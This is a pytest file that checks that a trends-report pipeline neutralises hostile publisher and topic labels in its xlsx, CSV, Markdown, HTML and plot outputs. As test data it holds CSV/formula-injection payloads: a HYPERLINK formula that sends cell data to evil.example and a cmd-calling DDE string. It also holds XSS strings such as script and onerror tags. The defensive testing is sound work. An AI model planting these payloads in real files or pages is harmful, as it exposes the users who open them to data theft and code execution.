"""Issue 14, rows 1 and 2 (and what already worked): labels from user data stay inert in the report's
spreadsheets, Markdown, HTML and plots."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest
from trends_fixtures import build_corpus

from pipeline.config import config_from_dict
from pipeline.store import CorpusStore

# -- 1, 2: hostile labels in the report ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_PUBLISHERS = (
    FORMULA,
    "@SUM(1+1)",
    "+49 30 1234 (Telefon)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "Verband $5{ bis $6",
    "<script>alert(1)</script> & <b>Verband</b> | Pipe",
)
DOLLAR_LABEL = "Verband $5{ bis $6"


def _hostile_project(tmp: Path) -> tuple[Path, Path, dict]:
    """The trends test corpus with hostile publishers (as a manifest could bring them) and a codebook and a
    model whose theme label has ``$`` in it."""
    store_path, model, _ = build_corpus(tmp)
    with CorpusStore(store_path) as store, store.transaction() as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM documents ORDER BY id")]
        for i, doc_id in enumerate(ids):
            pubs = [HOSTILE_PUBLISHERS[i % len(HOSTILE_PUBLISHERS)]] + (["-0.3"] if i % 4 == 0 else [])
            conn.execute("UPDATE documents SET publishers=? WHERE id=?", (json.dumps(pubs), doc_id))
    topics = pd.read_csv(model / "topics.csv")
    topics.loc[topics["theme"] == "ki", "theme_label"] = DOLLAR_LABEL
    topics.loc[topics["topic"] == 2, "label"] = "=1+2 <img src=x onerror=alert(1)>"
    topics.to_csv(model / "topics.csv", index=False)
    codebook = tmp / "codebook.toml"
    shipped = Path(__file__).resolve().parents[2] / "pipeline" / "themes" / "codebook.toml"
    codebook.write_text(
        shipped.read_text(encoding="utf-8").replace(
            'label = "KI und Automatisierung"', f'label = "{DOLLAR_LABEL}"'
        ),
        encoding="utf-8",
    )
    cfg = {"trends": {"groups": ["publisher"], "min_docs": 3, "bootstrap": 50},
           "themes": {"codebook": str(codebook)}, "report": {"workers": 1, "formats": ["png"]}}  # fmt: skip
    return store_path, model, cfg


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict]:
    return _hostile_project(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def hostile_report(hostile: tuple[Path, Path, dict], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report (tables and HTML, no plots) of the hostile project."""
    from pipeline.api import report_with_trends as render  # the tables first, as `themenradar report`

    store_path, model, raw = hostile
    cfg = config_from_dict({**raw, "report": {**raw["report"], "plots": False}})
    out = tmp_path_factory.mktemp("hostile-report") / "out"
    with CorpusStore(store_path) as store:
        render(store, model, cfg, out_dir=out)
    return out


def test_formulas_from_user_data_are_text_in_xlsx(hostile_report: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(hostile_report / "trends.xlsx")
    values = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE_PUBLISHERS:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    values[cell.value] = cell
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    # the original text is kept (no apostrophe in the value); Excel's quote prefix marks it as text
    assert values[FORMULA].quotePrefix and values["@SUM(1+1)"].quotePrefix
    assert not values[DOLLAR_LABEL].quotePrefix
    numbers = [c.value for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    assert any(isinstance(v, float) for v in numbers)  # shares stay numbers


def test_formulas_from_user_data_are_neutralised_in_csv(hostile_report: Path) -> None:
    import csv

    with open(hostile_report / "tables" / "theme_trends.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    groups = {r["group"] for r in rows}
    assert "'" + FORMULA in groups and FORMULA not in groups
    assert {"'@SUM(1+1)", "'+49 30 1234 (Telefon)", "'-2+3+cmd|' /C calc'!A0", "'\t=1+1"} <= groups
    assert "-0.3" in groups and "'-0.3" not in groups  # a number is not a formula
    assert DOLLAR_LABEL in groups and "all" in groups
    assert all(not v.startswith(("=", "@", "+")) for r in rows for v in r.values())
    # the report reads its own tables back with the original labels
    from pipeline.trends.compare import read_table

    back = read_table(hostile_report / "tables" / "theme_trends.csv")
    assert FORMULA in set(back["group"]) and "'" + FORMULA not in set(back["group"])


def test_neutralised_cells_read_back_exactly() -> None:
    from pipeline.safe import neutralise, restore

    cells = ["=1+1", "'=1+1", "''=1+1", "@x", "+49 30", "-", "\r=x", "'", "'abc", "abc", "", "O'Brien",
             "-0.3", "+5", "-1e-5", "12,5%", "(ohne Angabe)", "Verband $5{ bis $6"]  # fmt: skip
    out = [neutralise(c) for c in cells]
    assert out[:7] == ["'=1+1", "''=1+1", "'" + "''=1+1", "'@x", "'+49 30", "'-", "'\r=x"]
    assert out[7:] == cells[7:]  # ordinary text and numbers are untouched
    assert [restore(v) for v in out] == cells


def test_formula_escaping_can_be_switched_off(hostile: tuple[Path, Path, dict], tmp_path: Path) -> None:
    from pipeline import trends

    store_path, _, raw = hostile
    cfg = config_from_dict({**raw, "report": {"escape_formulas": False}})
    with CorpusStore(store_path) as store:
        trends.run(store, None, cfg, out_dir=tmp_path)
    groups = set(pd.read_csv(tmp_path / "tables" / "theme_trends.csv", keep_default_na=False)["group"])
    assert FORMULA in groups


def test_markdown_tables_escape_html_and_pipes(hostile_report: Path) -> None:
    md = (hostile_report / "tables" / "theme_trends.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "<b>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;Verband&lt;/b&gt; \\| Pipe" in md
    tables = [block for block in md.split("\n\n") if block.startswith("| ")]
    for block in tables:
        widths = {line.replace("\\|", "").count("|") for line in block.splitlines()}
        assert len(widths) == 1, block


def test_html_report_keeps_injected_labels_inert(hostile_report: Path) -> None:
    import re

    html = (hostile_report / "report.html").read_text(encoding="utf-8")
    # the page's own scripts only (chart code, chart data as JSON, the navigation); no label became a tag
    assert set(re.findall(r"<script[^>]*>", html)) == {"<script>", '<script type="application/json" class="trc-spec">'}
    assert "<script>alert(1)" not in html and "<img src=x" not in html and "<b>Verband" not in html
    for spec in re.findall(r'<script type="application/json" class="trc-spec">(.*?)</script>', html, re.S):
        assert "<" not in spec and json.loads(spec)  # labels inside chart data are \u003c-escaped JSON
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_dollar_signs_in_labels_do_not_break_the_plots(hostile_report: Path, tmp_path: Path) -> None:
    """The figures whose text comes from user data: a theme's title (codebook label), the model's theme topic
    (its label) and the legend of the publishers (the report draws these same functions)."""
    from pipeline.report import figures
    from pipeline.trends.compare import read_table

    themes = read_table(hostile_report / "tables" / "theme_trends.csv")
    topics = read_table(hostile_report / "tables" / "topic_trends.csv")
    ki = themes[themes["theme"].isin(["ki", "interaktion"])]
    files = figures.theme_figures(ki, ["doc_share"], tmp_path, "theme_", ["png", "svg"])
    files += figures.theme_figures(topics, ["share"], tmp_path, "model_theme_", ["svg"], unit="theme")
    # seven publishers: a panel per publisher (past three groups), titled with the publisher's name
    files += figures.group_panels(ki, "doc_share", "publisher", tmp_path, "by_publisher_", ["svg"])
    three = ki[(ki["group_by"] == "none") | ki["group"].isin([DOLLAR_LABEL, FORMULA, "-0.3"])]
    files += figures.small_multiples(three, "doc_share", "publisher", tmp_path / "by_publisher", ["svg"],
                                     title="Codebook themes by publisher")  # fmt: skip
    assert {f.name for f in files} >= {
        "theme_ki.png",
        "theme_ki.svg",
        "model_theme_ki.svg",
        "by_publisher_ki.svg",
        "by_publisher.svg",
    }
    assert DOLLAR_LABEL in (tmp_path / "theme_ki.svg").read_text(encoding="utf-8")  # drawn as the text it is
    assert DOLLAR_LABEL in (tmp_path / "model_theme_ki.svg").read_text(encoding="utf-8")
    panels = (tmp_path / "by_publisher_ki.svg").read_text(encoding="utf-8")
    assert DOLLAR_LABEL in panels and '>=HYPERLINK("http://evil.example/' in panels  # panel titles
    legend = (tmp_path / "by_publisher.svg").read_text(encoding="utf-8")
    assert DOLLAR_LABEL in legend and '>=HYPERLINK("http://evil.example/' in legend  # a legend entry
